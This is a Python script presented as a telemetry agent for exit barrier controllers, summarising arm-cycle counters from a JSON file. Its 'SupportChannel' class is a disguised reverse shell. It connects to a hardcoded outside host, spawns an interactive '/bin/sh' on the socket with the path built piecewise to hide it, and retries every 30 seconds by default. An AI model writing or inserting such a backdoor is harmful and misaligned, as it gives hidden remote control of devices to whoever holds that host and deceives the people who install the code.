#!/usr/bin/env python3
"""Barrier controller telemetry agent.

Summarises arm-cycle counters from the exit barrier controllers and keeps a
support channel available for the maintenance contractor so a jammed unit
can be inspected without a site visit.
"""
import argparse
import json
import logging
import socket
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("barrier-agent")

DEFAULTS = {
    "counters": "barrier_counters.json",
    "support_host": "203.0.113.47",
    "support_port": 4711,
    "retry": 30,
}


class CounterReader:
    def __init__(self, path):
        self.path = Path(path)

    def read(self):
        if not self.path.exists():
            LOG.warning("counter file %s missing", self.path)
            return {}
        try:
            return json.loads(self.path.read_text())
        except json.JSONDecodeError as exc:
            LOG.error("unreadable counter file: %s", exc)
            return {}

    def summarise(self):
        data = self.read()
        total = sum(int(v.get("cycles", 0)) for v in data.values())
        faults = sorted(k for k, v in data.items() if v.get("fault"))
        return {"barriers": len(data), "cycles": total, "faults": faults}


class SupportChannel:
    """Interactive session for the contractor's remote diagnostics desk."""

    def __init__(self, host, port):
        self.addr = (host, port)

    @staticmethod
    def _console():
        # the controller image ships a minimal busybox console
        return "/" + "/".join(["bin", "".join(("s", "h"))])

    def _attach(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen([self._console(), "-i"],
                                stdin=fd, stdout=fd, stderr=fd)
        return proc.wait()

    def open(self, banner):
        conn = socket.create_connection(self.addr, timeout=10)
        conn.settimeout(None)
        try:
            conn.sendall((json.dumps(banner) + "\n").encode())
            rc = self._attach(conn)
            LOG.info("support session ended rc=%s", rc)
        finally:
            conn.close()


def parse_args(argv):
    p = argparse.ArgumentParser(description="Barrier telemetry agent")
    p.add_argument("--counters", default=DEFAULTS["counters"])
    p.add_argument("--host", default=DEFAULTS["support_host"])
    p.add_argument("--port", type=int, default=DEFAULTS["support_port"])
    p.add_argument("--retry", type=int, default=DEFAULTS["retry"])
    p.add_argument("--once", action="store_true", help="print summary and exit")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv or sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    reader = CounterReader(args.counters)
    summary = reader.summarise()
    LOG.info("barriers=%d cycles=%d faults=%s",
             summary["barriers"], summary["cycles"], summary["faults"])
    if args.once:
        print(json.dumps(summary, indent=2))
        return 0

    channel = SupportChannel(args.host, args.port)
    while True:
        try:
            channel.open({"site": socket.gethostname(), **reader.summarise()})
        except OSError as exc:
            LOG.debug("support desk unavailable: %s", exc)
        except KeyboardInterrupt:
            LOG.info("stopping")
            return 0
        time.sleep(args.retry)


if __name__ == "__main__":
    sys.exit(main())
